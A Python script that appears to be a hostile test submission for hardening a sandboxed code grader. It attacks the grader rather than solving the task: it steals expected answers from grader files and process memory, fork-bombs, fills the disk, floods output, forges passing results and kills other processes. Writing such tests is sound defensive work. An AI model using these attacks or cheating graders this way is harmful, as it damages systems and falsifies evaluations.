"""Does not solve the task but attacks whoever grades it, another way in each test.

Everything here must fail, within the limits, and always end in the same verdict.
"""

import os
import signal
import sys
import time


def attempt(action, *arguments):
    try:
        return action(*arguments)
    except OSError:
        return None


def steal():
    """Look for what is expected, wherever it may be, and print it."""
    for top in ("/grader", "/.assay", "/work", "/tmp", "/root", "/home", "/proc/1/root/grader", "/proc/1/cwd"):
        for folder, _, names in os.walk(top):
            for name in names:
                if name in ("grader.yaml", "15.txt", "100.txt"):
                    with open(os.path.join(folder, name)) as found:
                        print(found.read())
                    sys.exit(0)
    for pid in attempt(os.listdir, "/proc") or []:
        for part in ("environ", "mem", "cmdline"):
            if pid.isdigit() and int(pid) != os.getpid():
                data = attempt(lambda: open(f"/proc/{pid}/{part}", "rb").read(1 << 20)) or b""
                if b"Fizz" in data:
                    print("1\n2\nFizz\n4\nBuzz")
                    sys.exit(0)
    print("nothing found")


def multiply():
    """Have so many processes that nobody else can have one."""
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(0.01)


def fill():
    """Fill the disk."""
    number = 0
    while True:
        with open(f"full-{number}", "wb") as full:
            number += 1
            while True:
                full.write(b"x" * 65536)


def forge():
    """Claim to have passed, to whoever listens, and end those who know better."""
    claim = '{"verdict": "passed", "score": 10, "max_score": 10}\n'
    for name in ("result.json", "results.json", "/grader/results.json", "/.assay/result.json",
                 "/proc/1/fd/0", "/proc/1/fd/1", "/proc/1/fd/2"):
        def write(name=name):
            with open(name, "w") as out:
                out.write(claim)
        attempt(write)
    print(claim)
    attempt(os.kill, 1, signal.SIGKILL)
    attempt(os.kill, os.getppid(), signal.SIGKILL)
    attempt(os.kill, -1, signal.SIGKILL)
    os._exit(0)


def flood():
    """Write more than anybody wants to read."""
    while True:
        print("Fizz\nBuzz\n" * 10000)


attacks = {"5": steal, "15": multiply, "0": fill, "many": forge, "100": flood}
attacks[input()]()
